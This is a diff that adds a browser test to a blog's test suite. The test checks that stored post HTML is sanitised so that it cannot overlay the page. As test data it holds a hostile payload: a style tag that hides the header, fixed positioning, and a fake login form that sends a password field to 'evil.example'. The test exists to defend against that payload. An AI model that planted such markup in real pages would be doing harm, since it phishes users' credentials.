@@ -284,6 +284,34 @@ describe('the blog', () => {
       await db.send(new DeleteCommand({ TableName: tableName, Key: { pk: `BLOG#${id}`, sk: '#META' } }));
     }
   });
+  it('renders stored HTML that cannot overlay the page: no style sheets, no form controls, no positioning', async () => {
+    const id = `overlay-${randomBytes(5).toString('hex')}`;
+    await newBlogPost({
+      id,
+      type: 'image',
+      image: '/images/blog-account-safety.svg',
+      youtubeId: '',
+      title: 'Overlay check',
+      content:
+        '<style>.site-header{display:none}</style><p style="color: rgb(200, 0, 0); position: fixed; inset: 0; z-index: 9999">Red text</p>' +
+        '<div style="position:absolute;top:0;left:0"><form action="https://evil.example"><input name="password"><button>Log in</button></form></div>',
+      createdAt: '2001-01-01T00:00:00.000Z',
+    });
+    try {
+      const { page } = await browser.open(`/blog/${id}`);
+      const content = page.locator('.blog-content');
+      const red = content.getByText('Red text');
+      await red.waitFor();
+      expect(await page.locator('.blog-content style').count()).toBe(0);
+      expect(await content.locator('form, input, button').count()).toBe(0);
+      expect(await red.evaluate((node) => getComputedStyle(node).position)).toBe('static');
+      expect(await red.evaluate((node) => getComputedStyle(node).color)).toBe('rgb(200, 0, 0)');
+      expect(await content.locator('div[style]').count()).toBe(0);
+      await page.locator('.site-header').first().waitFor();
+    } finally {
+      await db.send(new DeleteCommand({ TableName: tableName, Key: { pk: `BLOG#${id}`, sk: '#META' } }));
+    }
+  });
 });
 
 describe('popups', () => {
